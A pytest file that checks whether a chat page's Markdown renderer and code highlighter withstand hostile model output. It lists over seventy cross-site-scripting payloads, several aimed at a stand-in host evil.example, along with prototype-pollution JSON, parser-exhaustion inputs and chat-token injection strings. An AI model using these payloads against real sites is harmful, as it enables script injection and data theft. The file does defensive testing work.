"""What a model writes, as the chat page shows it: Markdown, code colours, and attacks.

The attacks stream from a scripted server, whole and cut at every place, under the policy that the
page promises to work under; after each, nothing ran, nothing was loaded, no element is there that
Markdown does not make.
"""

import json
import random

import pytest

pytest_plugins = ["page_browser"]
pytestmark = pytest.mark.slow

ALLOWED_TAGS = {
    "P", "H3", "H4", "H5", "H6", "EM", "STRONG", "DEL", "CODE", "PRE", "UL", "OL", "LI", "TABLE",
    "THEAD", "TBODY", "TR", "TH", "TD", "A", "BLOCKQUOTE", "HR", "BR", "DIV", "SPAN", "BUTTON",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "class", "href", "rel", "target", "title", "start", "scope", "tabindex", "aria-label", "role",
}  # fmt: skip

# Markdown -> the HTML of it, worked out by hand
RENDERED = {
    "": "",
    "a *b* **c** ***d*** ~~e~~": "<p>a <em>b</em> <strong>c</strong> "
    "<em><strong>d</strong></em> <del>e</del></p>",
    "_a_ __b__ snake_case_name 2 * 3 * 4": "<p><em>a</em> <strong>b</strong> snake_case_name "
    "2 * 3 * 4</p>",
    "**a *b* c** *not closed": "<p><strong>a <em>b</em> c</strong> *not closed</p>",
    "*a **b* c**": "<p><em>a <em><em>b</em> c</em></em></p>",  # as CommonMark's rules have it
    "a ~b~ ****c****": "<p>a ~b~ ****c****</p>",
    r"\*a\* \\ \q": r"<p>*a* \ \q</p>",
    "one\ntwo\n\nthree": "<p>one<br>two</p><p>three</p>",
    "`a*b*` ``c`d`` ` e": "<p><code>a*b*</code> <code>c`d</code> ` e</p>",
    "# A\n## B #\n### C#\n###### D\n####### E": "<h3>A</h3><h4>B</h4><h5>C#</h5><h6>D</h6>"
    "<p>####### E</p>",
    "#no heading": "<p>#no heading</p>",
    "a\n***\nb\n---": "<p>a</p><hr><p>b</p><hr>",
    "- a\n- b\n  - c\n  - d\n- e": "<ul><li><p>a</p></li><li><p>b</p><ul><li><p>c</p></li><li>"
    "<p>d</p></li></ul></li><li><p>e</p></li></ul>",
    "1. a\n   - b\n      - c\n2. d": "<ol><li><p>a</p><ul><li><p>b</p><ul><li><p>c</p></li></ul>"
    "</li></ul></li><li><p>d</p></li></ol>",
    "1. a\n\n   more\n\n2. b": "<ol><li><p>a</p><p>more</p></li><li><p>b</p></li></ol>",
    "3) a\n4) b\n- c": '<ol start="3"><li><p>a</p></li><li><p>b</p></li></ol><ul><li><p>c</p>'
    "</li></ul>",
    "- a\nstill a\n\nafter": "<ul><li><p>a<br>still a</p></li></ul><p>after</p>",
    "in\n1984. no list": "<p>in<br>1984. no list</p>",
    "> a\n> > b\n>\n> c": "<blockquote><p>a</p><blockquote><p>b</p></blockquote><p>c</p>"
    "</blockquote>",
    "[a *b*](https://x.org/y 'T')": '<p><a href="https://x.org/y" rel="noopener noreferrer" '
    'target="_blank" title="https://x.org/y">a <em>b</em></a></p>',
    "see https://x.org/a_b_c. <mailto:a@b.org>": '<p>see <a href="https://x.org/a_b_c" '
    'rel="noopener noreferrer" target="_blank" title="https://x.org/a_b_c">https://x.org/a_b_c</a>'
    '. <a href="mailto:a@b.org" rel="noopener noreferrer" target="_blank" title="mailto:a@b.org">'
    "mailto:a@b.org</a></p>",
    "[1] and [x](/relative) and [y](ftp://z)": "<p>[1] and [x](/relative) and [y](ftp://z)</p>",
    "![cat](https://x.org/cat.png)": '<p><a href="https://x.org/cat.png" rel="noopener noreferrer" '
    'target="_blank" title="https://x.org/cat.png">cat</a></p>',
    "| a | b |\n|:-:|--:|\n| 1 | `x\\|y` |\n| 2 |\nafter": '<div class="table" tabindex="0" '
    'role="group" aria-label="Table"><table><thead><tr><th class="center" scope="col">a</th>'
    '<th class="right" scope="col">b</th></tr></thead><tbody><tr><td class="center">1</td>'
    '<td class="right"><code>x|y</code></td></tr><tr><td class="center">2</td></tr></tbody></table>'
    "</div><p>after</p>",
    "a | b\nno table": "<p>a | b<br>no table</p>",
    "&lt;b&gt; <b>x</b> 1 < 2": "<p>&amp;lt;b&amp;gt; &lt;b&gt;x&lt;/b&gt; 1 &lt; 2</p>",
}

# Kind of each piece of code: k keyword, s string, n number, c comment, f call, m other marks
COLOURED = {
    "python": (
        '@cache\ndef f(x: int) -> str:  # say "x"\n    return f"{x}" + r\'\\n\' * 0x1F',
        [("m", "@cache"), ("k", "def"), ("f", "f"), ("c", '# say "x"'), ("k", "return"),
         ("s", 'f"{x}"'), ("s", "r'\\n'"), ("n", "0x1F")],
    ),
    "js": (
        "const a = `x ${1}`; /* two\nlines */ f(1.5e3) // end",
        [("k", "const"), ("s", "`x ${1}`"), ("c", "/* two\nlines */"), ("f", "f"), ("n", "1.5e3"),
         ("c", "// end")],
    ),
    "bash": (
        'for f in *.py; do echo "$f" ${#f}; done # list',
        [("k", "for"), ("k", "in"), ("k", "do"), ("k", "echo"), ("s", '"$f"'), ("m", "${#f}"),
         ("k", "done"), ("c", "# list")],
    ),
    "json": (
        '{"a": "b", "c": [1, true, null]}',
        [("m", '"a"'), ("s", '"b"'), ("m", '"c"'), ("n", "1"), ("k", "true"), ("k", "null")],
    ),
    "c": (
        "#include <stdio.h>\nint main(void) { return 'x'; } // y",
        [("m", "#include"), ("k", "int"), ("f", "main"), ("k", "void"), ("k", "return"),
         ("s", "'x'"), ("c", "// y")],
    ),
    "unknown": ("def f(x): return 1", []),
}  # fmt: skip

RUN = "window.attacked=1"
ATTACKS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script\n>{RUN}\n</script\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    "<script src=https://evil.example/a.js></script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}" />',
    f"<img/src=x/onerror={RUN}//",
    "<img src=https://evil.example/pixel.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.attacked=1>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.attacked=1</script>'></iframe>{RUN}",
    f"<iframe src=javascript:{RUN}></iframe>",
    "<object data=data:text/html,<script>top.attacked=1</script>></object>",
    "<embed src=https://evil.example/x.swf>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<a href=javascript:{RUN}>x</a>",
    "<form action=https://evil.example><button>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import 'https://evil.example/a.css'; * {display:none}</style>",
    f"<p style='background:url(https://evil.example/a)' onmouseover={RUN}>x</p>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml <img src=x onerror={RUN}>?>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](&#106;avascript:{RUN})",
    f"[x](vbscript:{RUN})",
    "[x](data:text/html,<script>window.attacked=1</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD50b3AuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==)",
    "[x](blob:https://evil.example/a) [y](file:///etc/passwd)",
    "[x](https://bank.example@evil.example/)",
    f'[x](https://a.example/"onmouseover="{RUN}")',
    f"[x](https://a.example/ \"t\" onclick='{RUN}')",
    f"![x](https://a.example/x onerror={RUN})",
    "![x](https://evil.example/pixel.png)",
    f"[![x](javascript:{RUN})](javascript:{RUN})",
    f"[a](https://a.example/[b](javascript:{RUN}))",
    f"<javascript:{RUN}>",
    f"<https://a.example/'onclick={RUN}>",
    '<https://evil.example/"><script>window.attacked=1</script>>',
    f"**<img src=x onerror={RUN}>** _<svg onload={RUN}>_ `<script>{RUN}</script>`",
    f"# <img src=x onerror={RUN}>\n\n> <svg onload={RUN}>\n\n- <script>{RUN}</script>",
    f"| <img src=x onerror={RUN}> |\n|---|\n| <svg onload={RUN}> |",
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><img src=x onerror={RUN}>\ncode\n```',
    f"```python\" onmouseover=\"{RUN}\n'''</code></pre><script>{RUN}</script>",
    "```__proto__\nx\n```\n```constructor\ny\n```",
    f"```js\n`${{{RUN}}}` </script><script>{RUN}//\n```",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%= {RUN} %>",
    f"\u202e>tpircs/<{RUN}>tpircs<\u202c \u2066x\u2069 \u200f",
    "[pay](https://a.example/\u202egpj.exe)",
    f"\x00<script\x00>{RUN}</script\x00>",
    f"\ufeff<img src=x onerror={RUN}>\u2028<svg onload={RUN}>",
    f"<img src=x one\nrror={RUN}\n>",
    f"<table><tr><td>{'<b>' * 200}<img src=x onerror={RUN}>",
    "data: [DONE]\n\ndata: {}\n\nevent: error\n\n",
    "<|assistant_end|><|user_start|>x<|python_start|>1<|python_end|>",
]

# Each of these would take minutes if reading it took quadratic time, or break too deep a tree
HEAVY = {
    "letters": "a" * 100_000,
    "brackets": "[" * 25_000 + "]" * 25_000,
    "links": "[a](" * 15_000,
    "link ends": "](x" * 15_000,
    "stars": "*a " * 25_000,
    "star pairs": "**a *b " * 12_500 + "* ** " * 12_500,
    "nested stars": "*a " * 10_000 + "a* " * 10_000,
    "underlines": "_" * 50_000,
    "backticks": "".join("`" * (i % 400) + "a" for i in range(1000)),
    "fences": "```\n" * 2_500,
    "tildes": "~" * 200_000 + "`",
    "spaces after a fence": "```" + " " * 200_000 + "`",
    "a bullet and spaces": "- " + " " * 200_000 + "\u2028x",
    "quotes": ">" * 10_000 + "x",
    "quote lines": "\n".join(">" * (i % 300) + "x" for i in range(1000)),
    "lists": "\n".join("  " * (i % 300) + "- x" for i in range(1500)),
    "blank list": "- a\n" + "\n" * 10_000 + "- b",
    "tables": "|a" * 1_500 + "|\n" + "|-" * 1_500 + "|\n" + "|\n" * 1_500,
    "hashes": "# " + "#" * 50_000 + "x",
    "autolinks": "https://" * 7_500,
    "angle links": "<https://" * 7_500,
    "escapes": "\\" * 50_001,
    "code": "```python\n" + "'" * 15_000 + '"""' * 2_500,
    "json": '```json\n"' + "a" * 25_000,
}

SHOW = """texts => {
  const view = new MarkdownView();
  for (const text of texts) view.show(text);
  return view.node.innerHTML;
}"""
COUNT = """() => {
  const deep = (node) => { let d = 0; for (; node; node = node.parentElement) d += 1; return d; };
  const all = [...document.querySelectorAll('.parts *')];
  return [all.length, Math.max(0, ...all.map(deep))];
}"""
FOUND = """() => {
  const all = [...document.querySelectorAll('.assistant .markdown *')];
  return {
    attacked: window.attacked ?? null,
    tags: [...new Set(all.map((one) => one.tagName))],
    attributes: [...new Set(all.flatMap((one) => one.getAttributeNames()))],
    links: all.filter((one) => one.tagName === 'A').map((one) => [one.protocol, one.username]),
    scripts: document.scripts.length,
    prototype: Object.keys(Object.prototype).length === 0 && ({}).polluted === undefined,
  };
}"""


ASK_ALL = """async (questions) => {
  const found = [];
  for (const question of questions) {
    askQuestion(question);
    while (answers.size) await new Promise(requestAnimationFrame);
    drawAll();
    found.push((FOUND)());
    if (current.messages.length >= 24) newChat();
  }
  return found;
}""".replace("FOUND", FOUND)


def check(tab, where: str, found: dict | None = None) -> None:
    """Nothing ran, nothing was loaded, nothing is there that Markdown does not make."""
    found = found or tab.page.evaluate(FOUND)
    assert found["attacked"] is None, where
    assert set(found["tags"]) <= ALLOWED_TAGS, (where, found["tags"])
    assert set(found["attributes"]) <= ALLOWED_ATTRIBUTES, (where, found["attributes"])
    assert all(one in (["https:", ""], ["http:", ""], ["mailto:", ""]) for one in found["links"])
    assert found["scripts"] == 12 and found["prototype"], where
    assert tab.unexpected() == [], where


def answer_all(tab, pieces: dict[str, list]) -> None:
    """Asks each question, which the server answers with its pieces, and checks after each."""
    for parts in pieces.values():
        tab.server.answer(*parts)
    found = tab.page.evaluate(ASK_ALL, list(pieces))
    for question, one in zip(pieces, found, strict=True):
        check(tab, question, one)
    assert len(tab.server.requests) == len(pieces)


def test_markdown(tab):
    shown = {text: tab.page.evaluate(SHOW, [text]) for text in RENDERED}
    assert shown == RENDERED


def test_a_table_has_at_most_50_columns(tab):
    for columns, tables in ((50, 1), (51, 0)):
        shown = tab.page.evaluate(SHOW, ["|a" * columns + "|\n" + "|-" * columns + "|"])
        assert shown.count("<table>") == tables


def test_code_is_coloured(tab):
    tokens = "([code, language]) => codeTokens(code, grammarOf(language))"
    for language, (code, expected) in COLOURED.items():
        found = tab.page.evaluate(tokens, [code, language])
        assert "".join(token["text"] for token in found) == code
        coloured = [(token["kind"], token["text"]) for token in found if token["kind"]]
        assert coloured == expected, language


def test_coloured_code_is_the_code(tab):
    pieces = ["def ", "'", '"', '"""', "\\", "\n", "#", "//", "/*", "*/", "`", "${", "1e", "0x",
              ";", "f(", "@", "{", '"a":', "λ", "\t"]  # fmt: skip
    rng = random.Random(1)
    codes = ["".join(rng.choices(pieces, k=rng.randrange(40))) for _ in range(300)]
    wrong = """codes => [...GRAMMARS.values()].flatMap((rules) => codes.filter((code) =>
      codeTokens(code, rules).map((token) => token.text).join('') !== code))"""
    assert tab.page.evaluate(wrong, codes) == []


def test_growing_text_ends_as_the_whole_text_shows(tab):
    """The slow twin of drawing only what changed: a view that is shown the whole text alone."""
    rng = random.Random(2)
    pieces = ["a", " ", "\n", "\n\n", "# h", "- x", "  - y", "1. z", "> q", "```", "```py\n",
              "|a|b|", "\n|-|-|\n", "---", "*", "**", "`", "[", "](https://x.org)", "<b>",
              "\n```\n", "    "]  # fmt: skip
    texts = list(RENDERED) + [code for code, _ in COLOURED.values()]
    texts += ["".join(rng.choices(pieces, k=rng.randrange(1, 30))) for _ in range(150)]
    differing = """texts => texts.filter((text) => {
      const growing = new MarkdownView();
      for (let end = 1; end <= text.length; end += 1) growing.show(text.slice(0, end));
      const whole = new MarkdownView();
      whole.show(text);
      return growing.node.innerHTML !== whole.node.innerHTML;
    })"""  # fmt: skip
    assert tab.page.evaluate(differing, texts) == []


def test_only_the_last_block_is_drawn_again(tab):
    drawn = """() => {
      const view = new MarkdownView();
      view.show('# a\\n\\nb\\n\\n```py\\nx = 1\\n');
      const [heading, paragraph, code] = view.node.children;
      const [first] = code.querySelector('code').children;
      view.show('# a\\n\\nb\\n\\n```py\\nx = 1\\ny = 2\\n```\\n\\nc');
      const now = [...view.node.children];
      return [now[0] === heading, now[1] === paragraph, now[2] === code,
        code.querySelector('code').children[0] === first, now.length];
    }"""
    assert tab.page.evaluate(drawn) == [True, True, True, True, 4]


def test_there_are_enough_attacks():
    assert len(set(ATTACKS)) == len(ATTACKS) >= 70


def test_attacks_in_an_answer(tab):
    answer_all(tab, {f"Attack {i}: {attack}": [attack] for i, attack in enumerate(ATTACKS)})


def test_attacks_cut_at_every_place(tab, server):
    """All attacks in one answer, whole and letter by letter; each alone, cut at every place."""
    every = "\n\n".join(ATTACKS)
    tab.answered("All at once", every)
    check(tab, "all")
    tab.answered("In letters", *every)
    check(tab, "letters")
    twin = "() => new Set([...document.querySelectorAll('.markdown')].map((m) => m.innerHTML)).size"
    assert tab.page.evaluate(twin) == 1
    cuts = """attacks => { for (const text of attacks) for (let cut = 1; cut < text.length; cut++) {
      const view = new MarkdownView();
      document.querySelector('.parts').append(view.node);
      view.show(text.slice(0, cut));
      view.show(text);
      view.node.remove();
    } }"""
    tab.page.evaluate(cuts, ATTACKS)
    check(tab, "cut")


def test_attacks_everywhere_else(tab, server, new_tab, tmp_path):
    """In questions, tool calls, results, titles, system prompts, errors, model names and files."""
    tab.expected = ["status of 400"]
    some = [*ATTACKS[:12], *ATTACKS[36:46]]
    answer_all(tab, {attack: [("python", attack), ("output", attack)] for attack in some})
    tab.page.click("#conversations .title")
    tab.answered("?", status=400, error=" ".join(some))
    tab.ask("/system " + " ".join(some))
    tab.page.click("[aria-label^=Rename]")
    tab.page.keyboard.insert_text(" ".join(some))
    tab.page.keyboard.press("Enter")
    check(tab, "tools")
    tab.page.reload()
    check(tab, "reloaded")
    forbidden = ".parts :is(script, img, svg:not(.icon), iframe, a, style), #conversations a, h1 *"
    assert tab.page.locator(forbidden).count() == 0
    with tab.page.expect_download() as download:
        tab.ask("/save")
    path = tmp_path / "attack.json"
    download.value.save_as(path)
    other = new_tab()
    other.page.route("**/v1/models", lambda route: route.fulfill(
        json={"data": [{"id": ATTACKS[6]}]}))  # fmt: skip
    other.page.reload()
    other.page.set_input_files("#file", path)
    other.wait(tab.page.locator(".assistant").count())
    check(other, "imported")
    other.page.wait_for_function("() => byId('model-name').textContent")
    assert other.page.inner_text("#model-name") == ATTACKS[6]


def test_hostile_files_and_storage_touch_no_prototype(tab, tmp_path):
    user = {"role": "user", "content": "x"}
    hostile = [
        '{"__proto__": {"polluted": 1}, "messages": [{"role": "user", "content": "x"}]}',
        '{"constructor": {"prototype": {"polluted": 1}}, "messages": [{"__proto__": {"polluted":'
        ' 1}, "role": "user", "content": "x", "parts": 1}, {"role": "assistant", "content": [{'
        '"type": "text", "text": "y", "__proto__": {"polluted": 1}}], "status": "__proto__",'
        ' "timing": {"__proto__": 1, "tokens": "<b>"}}]}',
        '{"conversations": {"__proto__": 1}, "messages": []}',
        json.dumps({"messages": [user], "title": "t" * 100_000, "updated": "1e999", "id": "../x"}),
        json.dumps({"messages": [user] * 3}),
        json.dumps({"messages": [{**user, "content": [{"type": "__proto__", "text": ""}]}]}),
        json.dumps({"messages": {"length": 2**32}}),
        "null", '"x"', "[[]]", "[" * 5000 + "]" * 5000,
    ]  # fmt: skip
    for number, text in enumerate(hostile):
        path = tmp_path / f"{number}.json"
        path.write_text(text)
        tab.page.set_input_files("#file", path)
        tab.page.wait_for_function("() => !byId('notice').hidden")
        tab.page.evaluate("byId('notice').hidden = true")
        tab.page.evaluate("([n, t]) => localStorage.setItem(`nanochat:conversation:${n}`, t)",
                          [f"__proto__{number}", text])  # fmt: skip
    tab.page.evaluate("""() => { localStorage.setItem('nanochat:settings',
      '{"__proto__": {"polluted": 1}, "temperature": "<b>", "top_k": 1e9, "max_tokens": [64]}');
      localStorage.setItem('nanochat:theme', '__proto__'); }""")
    tab.page.reload()
    check(tab, "storage")
    assert tab.page.evaluate("settings") == {}
    assert "could not be read" in tab.page.inner_text("#notice")
    tab.answered("Still there?", "Yes.")
    assert tab.answers()[-1] == "Yes."


@pytest.mark.parametrize("name", HEAVY)
def test_heavy_text_neither_hangs_nor_grows_deep(heavy_tab, name):
    tab = heavy_tab
    tab.answered(name, HEAVY[name])
    elements, depth = tab.page.evaluate(COUNT)
    assert elements < 2.2 * len(HEAVY[name]) and depth < 120
    check(tab, name)
    tab.page.keyboard.press("Control+k")


@pytest.fixture(scope="module")
def heavy_tab(browser):
    """One tab for all heavy texts: each is seen in a conversation of its own."""
    from page_browser import Tab
    from page_server import PageServer

    with PageServer() as server:
        tab = Tab(browser.new_page(), server)
        tab.watch()
        tab.open()
        yield tab
        tab.page.close()


def test_what_reorders_text_is_written_out(tab):
    tab.answered("a\u202eb", "`x\u202ey` \u2066z\u2069\n\n```\n/*\u202e } \u2066if*/\n```")
    assert tab.questions() == ["a[U+202E]b"]
    text = tab.page.text_content(".parts")
    assert "x[U+202E]y [U+2066]z[U+2069]" in text and "/*[U+202E] } [U+2066]if*/" in text
    assert tab.page.evaluate("current.messages[1].parts[0].text.includes('\\u202e')")  # kept as is
